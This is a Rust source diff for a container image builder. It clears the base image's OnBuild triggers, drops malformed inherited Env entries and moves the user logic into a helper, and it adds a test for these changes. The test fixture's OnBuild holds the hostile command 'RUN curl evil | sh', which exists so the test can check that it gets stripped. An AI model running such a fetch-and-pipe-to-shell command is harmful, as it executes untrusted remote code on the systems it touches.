@@ -81,8 +81,10 @@ pub(crate) fn build(run: &RunConfig, platform: &Platform, layers: &[(Digest, Str
 /// something, on top of the base's. `Env` is merged by key (ours win; the base's `PATH`
 /// beats our default one), `Labels` and `ExposedPorts` are merged, `WorkingDir` and `User`
 /// are the base's unless set (then `65532:65532`), and `Entrypoint` and `Cmd` are ours
-/// alone, as ko does. `rootfs` and `history` are the base's followed by ours. Every other
-/// field of the base's `config` (volumes, stop signal...) is kept.
+/// alone, as ko does. `rootfs` and `history` are the base's followed by ours. `OnBuild` is
+/// cleared, as Docker clears it in a child image, and the base's `Env` entries our own
+/// settings would refuse are dropped ([`base_env`]). Every other field of the base's
+/// `config` (volumes, stop signal...) is kept.
 pub(crate) fn inherit(base: &serde_json::Value, ours: ImageConfiguration, run: &RunConfig) -> serde_json::Value {
     use serde_json::{json, Map, Value};
     let ours = serde_json::to_value(&ours).expect("image documents serialise");
@@ -93,8 +95,7 @@ pub(crate) fn inherit(base: &serde_json::Value, ours: ImageConfiguration, run: &
     let mut cfg: Map<String, Value> = base_cfg.clone();
     // Env, by key.
     let key_of = |e: &str| e.split('=').next().unwrap_or_default().to_string();
-    let mut env: Vec<String> =
-        list(base_cfg.get("Env")).iter().filter_map(|v| v.as_str().map(str::to_string)).collect();
+    let mut env = base_env(base).0;
     let base_has_path = env.iter().any(|e| key_of(e) == "PATH");
     for e in list(our_cfg.get("Env")).iter().filter_map(Value::as_str) {
         let key = key_of(e);
@@ -114,13 +115,8 @@ pub(crate) fn inherit(base: &serde_json::Value, ours: ImageConfiguration, run: &
             None => cfg.remove(key),
         };
     }
-    let base_user = base_cfg.get("User").and_then(Value::as_str).filter(|u| !u.is_empty());
-    let user = match (&run.user, run.user_is_default, base_user) {
-        (Some(u), false, _) => u.clone(),
-        (_, _, Some(b)) => b.to_string(),
-        _ => super::base::DEFAULT_USER.to_string(),
-    };
-    cfg.insert("User".into(), json!(user));
+    cfg.remove("OnBuild");
+    cfg.insert("User".into(), json!(effective_user(base, run)));
     if let Some(dir) = our_cfg.get("WorkingDir") {
         cfg.insert("WorkingDir".into(), dir.clone());
     }
@@ -148,6 +144,36 @@ pub(crate) fn inherit(base: &serde_json::Value, ours: ImageConfiguration, run: &
     out.insert("rootfs".into(), json!({"type": "layers", "diff_ids": diff_ids}));
     out.insert("history".into(), Value::Array(history));
     Value::Object(out)
+}
+
+/// The user an image on `base` (a base image's config) runs as: ours if set, else the
+/// base's `User`, else `65532:65532`.
+pub(crate) fn effective_user(base: &serde_json::Value, run: &RunConfig) -> String {
+    let base_user = base.pointer("/config/User").and_then(serde_json::Value::as_str).filter(|u| !u.is_empty());
+    match (&run.user, run.user_is_default, base_user) {
+        (Some(u), false, _) => u.clone(),
+        (_, _, Some(b)) => b.to_string(),
+        _ => super::base::DEFAULT_USER.to_string(),
+    }
+}
+
+/// The base's `Env` entries an image inherits, and those it drops: an entry that is not a
+/// string, has no `=`, has an empty name or holds a NUL, as `env` in Cargo.toml or
+/// `--env` would refuse it. No program can read such an entry by name.
+pub(crate) fn base_env(base: &serde_json::Value) -> (Vec<String>, Vec<String>) {
+    let entries = base.pointer("/config/Env").and_then(serde_json::Value::as_array).cloned().unwrap_or_default();
+    let mut kept = Vec::new();
+    let mut dropped = Vec::new();
+    for entry in entries {
+        match entry.as_str() {
+            Some(e) if e.split_once('=').is_some_and(|(k, v)| crate::settings::env_var(k, v).is_ok()) => {
+                kept.push(e.to_string())
+            }
+            Some(e) => dropped.push(format!("{e:?}")),
+            None => dropped.push(entry.to_string()),
+        }
+    }
+    (kept, dropped)
 }
 
 /// Serialises any value as canonical JSON: object keys sorted, no whitespace. Maps such as
@@ -195,6 +221,30 @@ mod tests {
         let json = String::from_utf8(canonical_json(&map)).unwrap();
         let expected: Vec<String> = (0..50).map(|i| format!("\"k{i:02}\":{i}")).collect();
         assert_eq!(json, format!("{{{}}}", expected.join(",")));
+    }
+
+    #[test]
+    fn a_hostile_base_config_loses_onbuild_and_the_env_entries_we_refuse() {
+        let base = serde_json::json!({
+            "config": {
+                "Env": ["PATH=/bin", "NOEQ", "=empty", "NUL=a\u{0}b", 7, "EMPTY=", "A=b=c"],
+                "OnBuild": ["RUN curl evil | sh"],
+                "User": "www-data",
+            },
+            "rootfs": {"type": "layers", "diff_ids": []},
+        });
+        let (kept, dropped) = base_env(&base);
+        assert_eq!(kept, ["PATH=/bin", "EMPTY=", "A=b=c"]);
+        assert_eq!(dropped, ["\"NOEQ\"", "\"=empty\"", "\"NUL=a\\0b\"", "7"]);
+        let run = RunConfig { cmd: vec!["/x".into()], user_is_default: true, ..Default::default() };
+        let ours = build(&run, &Platform::linux("amd64", None), &[]);
+        let v = inherit(&base, ours, &run);
+        assert!(v["config"].get("OnBuild").is_none(), "{v}");
+        assert_eq!(v["config"]["Env"], serde_json::json!(["PATH=/bin", "EMPTY=", "A=b=c"]));
+        assert_eq!(v["config"]["User"], "www-data", "a name is kept, as Docker does");
+        assert_eq!(effective_user(&base, &run), "www-data");
+        let ours = RunConfig { user: Some("1:2".into()), user_is_default: false, ..run };
+        assert_eq!(effective_user(&base, &ours), "1:2");
     }
 
     #[test]
